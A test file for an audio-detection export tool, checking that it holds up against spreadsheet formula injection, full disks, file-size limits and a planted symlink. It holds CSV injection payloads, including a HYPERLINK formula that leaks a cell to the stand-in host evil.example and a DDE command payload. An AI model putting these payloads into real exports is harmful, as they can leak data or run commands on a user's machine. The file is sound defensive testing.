/**
 * @module Exports against hostile text and careless places, on the compiled binary: labels and a
 * deployment name that are spreadsheet formulas, a full disk (a small tmpfs where one can be
 * mounted, and a file-size limit everywhere), `--out` naming a file, a planted `.part` symlink,
 * and the combined Raven table checked against the audio: every selection's planted tone is where
 * the selection says, with deleted recordings out of the file sequence. The tone helper's own test
 * is in test/report/hostile-exports.test.ts.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buildBinary, runBinary, runner } from "../../helpers/binaries.ts";
import { makeTempHome, type TempHome } from "../../helpers/cli.ts";
import { smallTmpfs } from "../../helpers/mounts.ts";
import { DELETED, RATE, RECORDINGS, toneShare, writeToneDb } from "../../helpers/tone-db.ts";

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "=1"];
const HOSTILE_DEPLOYMENT = "=cmd|' /C calc'!A0";

let home: TempHome;
let binary: ReturnType<typeof runner>;
beforeAll(() => {
  home = makeTempHome("acoupi-hostile-export-");
  binary = runner(buildBinary("x64"));
}, 120_000);
afterAll(() => home.cleanup());

function exportCli(args: string[]) {
  return runBinary(binary, ["export", ...args], home.env);
}

/** Splits RFC 4180 text into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    } else cell += c;
  }
  return rows;
}

describe("spreadsheet formulas in labels and names", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(home.home, "formulas-"));
    writeToneDb(dir, { labels: (i) => FORMULAS[i % FORMULAS.length] as string, deploymentName: HOSTILE_DEPLOYMENT });
  });

  test("no CSV cell starts a formula, text keeps its value after an apostrophe, and numbers stay numbers", () => {
    const out = join(dir, "csv");
    const result = exportCli(["--format", "csv", "--db", join(dir, "metadata.db"), "--out", out]);
    expect(result.code, result.stderr).toBe(0);
    const [header, ...rows] = parseCsv(readFileSync(join(out, "detections.csv"), "utf8"));
    expect(rows.length).toBe(RECORDINGS - DELETED.size);
    const col = (name: string) => (header as string[]).indexOf(name);
    for (const row of rows) {
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
      expect(row[col("deployment")]).toBe(`'${HOSTILE_DEPLOYMENT}`);
      expect(FORMULAS).toContain((row[col("label")] as string).slice(1));
      for (const numeric of ["score", "start_time_s", "end_time_s", "low_freq_hz", "high_freq_hz", "duration_s", "samplerate_hz"]) {
        expect(Number.isFinite(Number(row[col(numeric)]))).toBe(true);
      }
    }
  });

  test("JSON lines keep the exact text", () => {
    const out = join(dir, "jsonl");
    expect(exportCli(["--format", "jsonl", "--db", join(dir, "metadata.db"), "--out", out]).code).toBe(0);
    const rows = readFileSync(join(out, "detections.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l) as { label: string; deployment_name: string });
    expect(rows.map((r) => r.label)).toEqual([0, 2, 4, 5].map((i) => FORMULAS[i % FORMULAS.length] as string));
    for (const row of rows) expect(row.deployment_name).toBe(HOSTILE_DEPLOYMENT);
  });
});

describe("where an export is written", () => {
  let dir: string;
  let db: string;
  beforeAll(() => {
    dir = mkdtempSync(join(home.home, "places-"));
    db = writeToneDb(dir, { extraDetections: 400 }).path;
  });

  function expectCleanFailure(result: { code: number; stdout: string; stderr: string }, out: string, file: string): void {
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain("internal error");
    expect(result.stderr).toContain(`Cannot write the export file "${join(out, file)}"`);
    expect(readdirSync(out).filter((n) => n.endsWith(".part"))).toEqual([]);
  }

  // A tmpfs needs root and mount rights; the file-size limit below stands in everywhere else.
  const probe = smallTmpfs(64 * 1024);
  probe?.release();
  const withTmpfs = probe !== null ? test : test.skip;
  withTmpfs("on a full disk the export names its file, leaves no partial file and exits non-zero", () => {
    const disk = smallTmpfs(64 * 1024);
    if (disk === null) throw new Error("cannot mount a tmpfs here");
    try {
      const csv = exportCli(["--format", "csv", "--db", db, "--out", disk.path]);
      expectCleanFailure(csv, disk.path, "detections.csv");
      expect(csv.stderr).toContain("the disk is full");
      const raven = exportCli(["--format", "raven", "--combined", "--db", db, "--out", disk.path]);
      expectCleanFailure(raven, disk.path, "detections.selections.txt");
      expect(readdirSync(disk.path)).toEqual([]);
    } finally {
      disk.release();
    }
  });

  test("over the file-size limit the export names its file, leaves no partial file and exits non-zero", () => {
    const out = join(dir, "limited");
    mkdirSync(out);
    // SIGXFSZ ignored (inherited through exec), so the write fails with EFBIG instead of killing the process.
    const limited = { argv: ["sh", "-c", 'trap "" XFSZ; ulimit -f 200; exec "$@"', "sh", ...binary.argv], env: binary.env };
    const result = runBinary(limited, ["export", "--format", "csv", "--db", db, "--out", out], home.env);
    expectCleanFailure(result, out, "detections.csv");
    expect(readdirSync(out)).toEqual([]);
  });

  test("--out naming an existing file is refused by name and the file is untouched", () => {
    const file = join(dir, "notes.txt");
    writeFileSync(file, "field notes\n");
    const result = exportCli(["--format", "csv", "--db", db, "--out", file]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`--out "${file}" is a file, not a folder`);
    expect(result.stderr).not.toContain("internal error");
    expect(readFileSync(file, "utf8")).toBe("field notes\n");
  });

  test("a planted .part symlink is not written through", () => {
    const out = join(dir, "planted");
    mkdirSync(out);
    const victim = join(dir, "victim.txt");
    writeFileSync(victim, "precious\n");
    symlinkSync(victim, join(out, "detections.csv.part"));
    symlinkSync(victim, join(out, "detections.selections.txt.part"));
    expect(exportCli(["--format", "csv", "--db", db, "--out", out]).code).toBe(0);
    expect(exportCli(["--format", "raven", "--combined", "--db", db, "--out", out]).code).toBe(0);
    expect(readFileSync(victim, "utf8")).toBe("precious\n");
    expect(lstatSync(join(out, "detections.csv")).isFile()).toBe(true);
    expect(readFileSync(join(out, "detections.csv"), "utf8")).toStartWith("detection_id,");
    expect(existsSync(join(out, "detections.csv.part"))).toBe(false);
  });
});

/** The samples of a 16-bit mono WAV (the 44-byte header these tests write). */
function samplesOf(path: string): Int16Array {
  const bytes = readFileSync(path);
  return new Int16Array(bytes.buffer.slice(bytes.byteOffset + 44, bytes.byteOffset + bytes.byteLength));
}

describe("the combined Raven table against the audio", () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(home.home, "raven-"));
    writeToneDb(dir);
  });

  test("each selection's time in the file sequence holds its planted tone, with deleted recordings left out", () => {
    const out = join(dir, "combined");
    const result = exportCli(["--format", "raven", "--combined", "--db", join(dir, "metadata.db"), "--out", out]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain(`Left out ${DELETED.size} detections of recordings whose audio was deleted`);
    const [header, ...lines] = readFileSync(join(out, "detections.selections.txt"), "utf8").trim().split("\n").map((l) => l.split("\t"));
    const col = (name: string) => (header as string[]).indexOf(name);
    expect(lines.length).toBe(RECORDINGS - DELETED.size);
    // The file sequence Raven opens: the Begin Path column in order, one after another.
    const sequence: Int16Array[] = [];
    for (const line of lines) if (!sequence.some((_, k) => lines[k]?.[col("Begin Path")] === line[col("Begin Path")])) sequence.push(samplesOf(line[col("Begin Path")] as string));
    const joined = new Int16Array(sequence.reduce((n, s) => n + s.length, 0));
    let at = 0;
    for (const s of sequence) joined.set(s, at), (at += s.length);
    for (const line of lines) {
      const from = Math.round(Number(line[col("Begin Time (s)")]) * RATE);
      const to = Math.round(Number(line[col("End Time (s)")]) * RATE);
      expect(toneShare(joined, from, to)).toBeGreaterThan(0.9);
      const own = samplesOf(line[col("Begin Path")] as string);
      const offset = Math.round(Number(line[col("File Offset (s)")]) * RATE);
      expect(toneShare(own, offset, offset + (to - from))).toBeGreaterThan(0.9);
    }
  });

  test("per recording, tables are written for kept recordings only, and --include-deleted adds the others", () => {
    const kept = join(dir, "per-recording");
    expect(exportCli(["--format", "raven", "--db", join(dir, "metadata.db"), "--out", kept]).code).toBe(0);
    expect(readdirSync(kept).sort()).toEqual([0, 2, 4, 5].map((i) => `rec${i}.Table.1.selections.txt`));
    const all = join(dir, "all");
    expect(exportCli(["--format", "raven", "--include-deleted", "--db", join(dir, "metadata.db"), "--out", all]).code).toBe(0);
    expect(readdirSync(all).length).toBe(RECORDINGS);
    const combined = join(dir, "all-combined");
    expect(exportCli(["--format", "raven", "--combined", "--include-deleted", "--db", join(dir, "metadata.db"), "--out", combined]).code).toBe(0);
    const [head, ...lines] = readFileSync(join(combined, "detections.selections.txt"), "utf8").trim().split("\n");
    const header = (head as string).split("\t");
    const at = (name: string) => header.indexOf(name);
    const rows = lines.map((l) => l.split("\t"));
    expect(rows.length).toBe(RECORDINGS);
    // A deleted recording's selection names no file and does not move those after it.
    expect(rows.filter((r) => r[at("Begin File")] === "").length).toBe(DELETED.size);
    expect(Number(rows[2]?.[at("Begin Time (s)")])).toBeCloseTo(3 + Number(rows[2]?.[at("File Offset (s)")]), 5);
  });
});
